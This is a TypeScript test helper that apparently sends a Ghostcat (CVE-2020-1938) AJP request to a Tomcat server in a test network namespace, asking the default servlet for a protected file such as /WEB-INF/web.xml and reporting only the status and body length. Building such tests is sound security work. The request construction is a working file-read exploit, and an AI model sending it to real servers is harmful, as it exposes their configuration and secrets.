/**
 * A Ghostcat client (CVE-2020-1938) for ajp-real.test.ts, run inside the test's network namespace: `<host> <port>
 * <file>` sends one AJP FORWARD_REQUEST for `/asdf` whose request attributes (`javax.servlet.include.request_uri`,
 * `path_info`, `servlet_path`) ask the default servlet for `file`, as the public exploits do, reads the answer to its
 * END_RESPONSE and prints its status and body length as JSON.
 */
import { connect } from 'node:net';
import { forwardRequest, ghostcatAttributes } from '#test/fixtures/protocols/ajp-encode.ts';

const [host = '127.0.0.1', port = '8009', file = '/WEB-INF/web.xml'] = process.argv.slice(2);

const request = forwardRequest({
  method: 2,
  uri: '/asdf',
  headers: [
    [0xa00b, 'localhost'],
    [0xa00e, 'ghostcat'],
  ],
  attributes: ghostcatAttributes(file),
});

let received = Buffer.alloc(0);
let status = 0;
let body = 0;
const socket = connect(Number(port), host, () => socket.write(request));

/** Reads whole server packets (`AB`, length, payload): SEND_HEADERS' status, body chunks, END_RESPONSE. */
const read = (): void => {
  while (received.length >= 4 && received.length >= 4 + received.readUInt16BE(2)) {
    const payload = received.subarray(4, 4 + received.readUInt16BE(2));
    received = received.subarray(4 + payload.length);
    if (payload[0] === 4) status = payload.readUInt16BE(1);
    if (payload[0] === 3) body += payload.readUInt16BE(1);
    if (payload[0] === 5) socket.end();
  }
};

socket.on('data', (chunk: Buffer) => {
  received = Buffer.concat([received, chunk]);
  read();
});
socket.setTimeout(5_000, () => socket.destroy());
socket.on('error', () => undefined);
socket.on('close', () => console.log(JSON.stringify({ status, body })));
